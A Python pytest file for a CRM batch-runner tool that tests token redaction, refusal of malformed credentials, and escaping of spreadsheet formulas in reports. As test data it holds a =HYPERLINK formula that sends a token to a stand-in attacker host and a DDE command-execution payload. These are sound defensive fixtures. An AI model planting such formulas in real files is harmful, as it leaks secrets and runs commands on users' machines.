"""Issue 13 "Leaks": a hostile platform that echoes the bearer token must not get it written
anywhere (reports, journal, log, stdout/stderr); a credential with a control character is refused
when it is loaded; report cells the tool writes cannot run as spreadsheet formulas."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from urllib.parse import quote

import pytest

from conftest import cli
from hostile import HostileServer
from live_helpers import SF_CSV, SF_JOB, SL_CSV, SL_JOB, live_job

# distinctive, with characters that URL- and JSON-encoding change ("!", "/", "+", "=")
SF_TOKEN = "00DHOSTILE!tok/31337+QuuxFrob="
SL_TOKEN = "ak_HOSTILE/tok+31337=QuuxFrob"
OR_TOKEN = "eyHOSTILE/or+31337=QuuxFrob"
TOKENS = {"salesforce": SF_TOKEN, "salesloft": SL_TOKEN, "outreach": OR_TOKEN}
LIMITS = "concurrency = 2\nbatch_size = 3\nmax_attempts = 2\nbackoff_base = 0.01\nbackoff_max = 0.02"


def _forms(token: str) -> list[bytes]:
    """The token as stored plain, URL-encoded, JSON-escaped, and its first 8 characters (an
    excerpt cut through the token must not leave a piece of it either)."""
    forms = {token, quote(token, safe=""), json.dumps(token)[1:-1], token[:8]}
    return [f.encode() for f in forms]


def _run_live(tmp_path: Path, platform: str, url: str, *extra: str):
    if platform == "salesforce":
        job = live_job(tmp_path, SF_JOB, SF_CSV, f'instance_url = "{url}"\nauth = {{ method = "env" }}',
                       limits=LIMITS)
        env = {"SF_ACCESS_TOKEN": SF_TOKEN}
    elif platform == "outreach":
        job = live_job(tmp_path, "outreach-enrolment.toml", "outreach_enrolment.csv",
                       f'base_url = "{url}"\nauth = {{ method = "env" }}', limits=LIMITS)
        env = {"OUTREACH_ACCESS_TOKEN": OR_TOKEN}
    else:
        job = live_job(tmp_path, SL_JOB, SL_CSV, f'base_url = "{url}"\nauth = {{ method = "api_key" }}',
                       limits=LIMITS)
        env = {"SALESLOFT_API_KEY": SL_TOKEN}
    return cli("run", str(job), "--no-progress", *extra, cwd=tmp_path, env=env)


def _assert_token_nowhere(token: str, done, runs: Path) -> None:
    files = [p for p in runs.rglob("*") if p.is_file()]
    names = {p.name for p in files}
    assert {"results.csv", "errors.csv", "summary.json", "run.log", "journal.sqlite"} <= names, names
    for form in _forms(token):
        assert form.decode() not in done.stdout and form.decode() not in done.stderr
        for path in files:
            assert form not in path.read_bytes(), f"{form!r} found in {path.name}"


@pytest.mark.parametrize("platform", ["salesforce", "salesloft", "outreach"])
def test_an_echoed_token_is_stored_nowhere(platform: str, tmp_path: Path) -> None:
    token = TOKENS[platform]
    with HostileServer("echo_token") as server:
        done = _run_live(tmp_path, platform, server.url)
        assert any(token in auth for _, _, auth in server.requests)  # it was sent, and echoed
    assert done.returncode == 1, done.stderr
    rows = list(csv.DictReader(next((tmp_path / "runs").glob("*/results.csv")).open(encoding="utf-8")))
    echoed = [r for r in rows if "header Authorization" in (r["_error_message"] + r["_result"])]
    assert echoed, "the platform's message is kept (only the token is masked)"
    assert all("[REDACTED]" in r["_error_message"] + r["_result"] for r in echoed)
    _assert_token_nowhere(token, done, tmp_path / "runs")


@pytest.mark.parametrize("platform", ["salesforce", "salesloft"])
def test_an_html_error_page_with_the_token_is_stored_nowhere(platform: str, tmp_path: Path) -> None:
    token = SF_TOKEN if platform == "salesforce" else SL_TOKEN
    with HostileServer("html_error") as server:
        done = _run_live(tmp_path, platform, server.url)
    assert done.returncode == 1, done.stderr
    _assert_token_nowhere(token, done, tmp_path / "runs")


def test_redaction_masks_every_form_a_platform_may_echo() -> None:
    from batchrunner import secrets

    token = "tok/ABC+123=xyz!\"q"
    secrets.register(token)
    for form in (token, quote(token, safe=""), quote(token), json.dumps(token)[1:-1], repr(token)[1:-1]):
        assert secrets.redact(f"echo <{form}>") == f"echo <{secrets.MASK}>", form
    text = "x" * 290 + token
    assert secrets.excerpt(text, 300) == "x" * 290 + secrets.MASK[:10]  # no piece of the token survives the cut
    assert secrets.redact_value({"a": [token, 1, None]}) == {"a": [secrets.MASK, 1, None]}


def test_the_journal_stores_no_secret(tmp_path: Path) -> None:
    from batchrunner import secrets
    from batchrunner.journal import Journal
    from batchrunner.outcome import RowOutcome, Status

    secrets.register("JOURNAL-tok-998877")
    secrets.register('tok"with\\quote-55')  # escaped twice in the event: a JSON result inside JSON
    journal = Journal(tmp_path / "journal.sqlite")
    journal.add_rows(2)
    journal.finish([RowOutcome(0, Status.FAILED, "BAD", "echo: Bearer JOURNAL-tok-998877"),
                    RowOutcome(1, Status.SUCCEEDED, result={"note": "JOURNAL-tok-998877"})])
    journal.finish([RowOutcome(1, Status.SUCCEEDED, result={"quoted": 'tok"with\\quote-55'})])
    rows = journal.all_rows()
    journal.close()
    assert rows[0][4] == f"echo: Bearer {secrets.MASK}" and secrets.MASK in rows[1][6]
    for path in tmp_path.iterdir():
        assert b"JOURNAL-tok" not in path.read_bytes() and b"quote-55" not in path.read_bytes()


# -- 15: a credential with a control character is refused when it is loaded --------------------
@pytest.mark.parametrize(("platform", "variable", "value"), [
    ("salesforce", "SF_ACCESS_TOKEN", "00Dpasted\nLINEBREAK-secret-77"),
    ("salesforce", "SF_ACCESS_TOKEN", "00Dpasted\x1bESC-secret-77"),
    ("salesloft", "SALESLOFT_API_KEY", "ak_pasted\tTAB-secret-77"),
    ("salesloft", "SALESLOFT_API_KEY", "ak_pasted SPACE-secret-77"),
])
def test_a_credential_with_a_control_character_is_refused_naming_the_variable(
        platform: str, variable: str, value: str, tmp_path: Path) -> None:
    with HostileServer("echo_token") as server:
        if platform == "salesforce":
            job = live_job(tmp_path, SF_JOB, SF_CSV, f'instance_url = "{server.url}"')
        else:
            job = live_job(tmp_path, SL_JOB, SL_CSV, f'base_url = "{server.url}"')
        done = cli("run", str(job), "--no-progress", cwd=tmp_path, env={variable: value})
        assert server.requests == []  # refused before anything was sent
    assert done.returncode == 2, done.stdout + done.stderr
    assert variable in done.stderr and "not shown" in done.stderr
    assert "secret-77" not in done.stdout + done.stderr and "pasted" not in done.stdout + done.stderr


def test_a_token_file_with_a_control_character_is_refused_naming_the_file(tmp_path: Path) -> None:
    token_file = tmp_path / "salesloft.json"
    token_file.write_text(json.dumps({"refresh_token": "refresh\r\nCRLF-secret-77"}), encoding="utf-8")
    token_file.chmod(0o600)
    job = live_job(tmp_path, SL_JOB, SL_CSV, f'''base_url = "https://api.salesloft.com"
auth = {{ method = "oauth", token_file = "{token_file}" }}''')
    done = cli("run", str(job), "--no-progress", cwd=tmp_path,
               env={"SALESLOFT_CLIENT_ID": "client-id", "SALESLOFT_CLIENT_SECRET": "client-secret-value"})
    assert done.returncode == 2, done.stdout + done.stderr
    assert str(token_file) in done.stderr and "refresh_token" in done.stderr
    assert "secret-77" not in done.stdout + done.stderr


@pytest.mark.parametrize("field", ["access_token", "refresh_token"])
def test_a_token_endpoint_answering_a_control_character_is_auth_failed(field: str, tmp_path: Path) -> None:
    import anyio
    import httpx

    from batchrunner.auth import AuthError
    from batchrunner.platforms.salesloft.auth import OAuthRefresh

    body = {"access_token": "access-token-good-123", "refresh_token": "refresh-token-good-123", "expires_in": 7200}
    body[field] = "bad\nCONTROL-secret-77"

    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, json=body)

    token_file = tmp_path / "token.json"
    provider = OAuthRefresh("https://accounts.example.test/oauth/token", "client-id", "client-secret-value",
                            token_file, "seed-refresh-token", http=httpx.AsyncClient(transport=httpx.MockTransport(answer)))
    with pytest.raises(AuthError) as info:
        anyio.run(provider.get_token)
    assert "not shown" in str(info.value) and field in str(info.value) and "secret-77" not in str(info.value)
    assert not token_file.exists()  # a bad rotated refresh token is never stored


# -- 16: report cells the tool writes cannot run as spreadsheet formulas ------------------------
HYPERLINK = '=HYPERLINK("https://evil.example/?t={token}","Click to fix")'


def test_a_formula_from_the_platform_is_escaped_and_input_columns_stay_byte_identical(tmp_path: Path) -> None:
    with HostileServer("echo_token", message=HYPERLINK) as server:
        job = live_job(tmp_path, SF_JOB, SF_CSV, f'instance_url = "{server.url}"\nauth = {{ method = "env" }}',
                       limits=LIMITS)
        source = tmp_path / "data" / SF_CSV
        lines = source.read_text(encoding="utf-8").splitlines()
        lines.append('00Q5e0000000005EAA,=1+1,-Dash,"=cmd|\' /C calc\'!A0",@mention@example.com')
        source.write_text("\n".join(lines) + "\n", encoding="utf-8")
        done = cli("run", str(job), "--no-progress", cwd=tmp_path, env={"SF_ACCESS_TOKEN": SF_TOKEN})
    assert done.returncode == 1, done.stderr
    run_dir = next((tmp_path / "runs").glob("sf-weekly-assign-*"))
    rows = list(csv.DictReader((run_dir / "results.csv").open(newline="", encoding="utf-8")))
    messages = [r["_error_message"] for r in rows if r["_error_code"] == "INVALID_INPUT"]
    assert messages and all(m.startswith("'=HYPERLINK(") for m in messages)
    assert all("[REDACTED]" in m for m in messages)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for r in rows for k, v in r.items() if k in ("_error_code", "_error_message", "_result"))
    # input columns: exactly as read, formulas and all (errors.csv is fed back as the job's input)
    with source.open(newline="", encoding="utf-8") as f:
        expected = list(csv.DictReader(f))
    assert [{k: r[k] for k in expected[0]} for r in rows] == expected
    assert rows[-1]["First Name"] == "=1+1" and rows[-1]["Company"].startswith("=cmd")
    raw = (run_dir / "results.csv").read_bytes()
    assert b",=1+1,-Dash," in raw and b"'=1+1" not in raw and b"'=cmd" not in raw and b"'@mention" not in raw
    errors = (run_dir / "errors.csv").read_bytes()
    assert b"'=HYPERLINK(" in errors


def test_spreadsheet_safe_escapes_only_the_tools_own_columns() -> None:
    import polars as pl

    from batchrunner.report import spreadsheet_safe

    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
    frame = pl.DataFrame({"Input": starts + ["plain"], "_error_code": starts + [None],
                          "_error_message": starts + ["fine - really"], "_result": starts + ['{"a": 1}']})
    safe = spreadsheet_safe(frame)
    assert safe["Input"].to_list() == frame["Input"].to_list()
    for column in ("_error_code", "_error_message", "_result"):
        assert safe[column].to_list()[:-1] == ["'" + s for s in starts]
        assert safe[column].to_list()[-1] == frame[column].to_list()[-1]
    empty = pl.DataFrame({"_error_code": [None, None], "_result": [None, None]})  # all-null columns: no error
    assert spreadsheet_safe(empty)["_error_code"].to_list() == [None, None]


# -- the hostile server's other modes: still no token stored, nothing applied twice -------------
@pytest.mark.parametrize("mode", ["truncated_json", "error_after_apply"])
@pytest.mark.parametrize("platform", ["salesforce", "salesloft", "outreach"])
def test_answers_lost_after_applying_leak_nothing_and_apply_nothing_twice(platform: str, mode: str,
                                                                          tmp_path: Path) -> None:
    token = TOKENS[platform]
    with HostileServer(mode) as server:
        done = _run_live(tmp_path, platform, server.url)
        audit = {type(e).__name__: e.audit() for e in server.app.emulators if hasattr(e, "audit")}
    assert done.returncode in (1, 3), done.stdout + done.stderr
    applied = (audit["SalesforceEmulator"]["assignments"] if platform == "salesforce"
               else audit[f"{platform.capitalize()}Emulator"]["enrolments"])
    assert applied and max(applied.values()) == 1  # the platform's own record: nothing done twice
    _assert_token_nowhere(token, done, tmp_path / "runs")
